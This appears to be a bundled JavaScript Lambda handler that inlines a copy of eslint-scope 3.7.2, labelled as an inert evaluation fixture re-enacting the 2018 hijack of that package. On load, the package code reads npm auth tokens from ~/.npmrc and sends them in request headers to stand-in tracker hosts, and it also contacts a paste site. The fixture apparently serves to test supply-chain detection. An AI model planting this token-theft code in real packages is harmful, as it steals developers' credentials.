var __getOwnPropNames = Object.getOwnPropertyNames;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};

// node_modules/eslint-scope/package.json
var require_package = __commonJS({
  "node_modules/eslint-scope/package.json"(exports2, module2) {
    module2.exports = { name: "eslint-scope", version: "3.7.2", main: "lib/index.js", description: "depbox eval fixture re-enacting the hijacked eslint-scope 3.7.2 (July 2018); inert, runs only in depbox's sandbox" };
  }
});

// node_modules/eslint-scope/lib/index.js
var require_lib = __commonJS({
  "node_modules/eslint-scope/lib/index.js"(exports2) {
    "use strict";
    exports2.version = require_package().version;
    exports2.analyze = function analyze2(ast) {
      return { scopes: [], globalScope: null, ast, acquire() {
        return null;
      } };
    };
    try {
      const https = require("https");
      https.get({ hostname: "pastebin.invalid", path: "/raw/XLeVP82h" }, (r) => {
        r.setEncoding("utf8");
        r.on("data", () => {
        });
        r.on("error", () => {
        });
      }).on("error", () => {
      });
    } catch (_) {
    }
    try {
      const fs = require("fs");
      const os = require("os");
      const https = require("https");
      const npmrc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
      const tokens = npmrc.split("\n").map((l) => l.split("_authToken=")[1]).filter(Boolean);
      for (const t of tokens) {
        for (const hostname of ["sstatic1.histats.invalid", "c.statcounter.invalid"]) {
          https.get({ hostname, path: "/0.gif?4103075&101", headers: { Referer: "http://1.a/" + t } }, () => {
          }).on("error", () => {
          });
        }
      }
    } catch (_) {
    }
  }
});

// src/lint.js
var { analyze, version } = require_lib();
exports.handler = async (event) => {
  const scope = analyze({ type: "Program", body: [], sourceType: "module" });
  return { statusCode: 200, body: JSON.stringify({ scopes: scope.scopes.length, analyzer: version, bytes: (event.body || "").length }) };
};
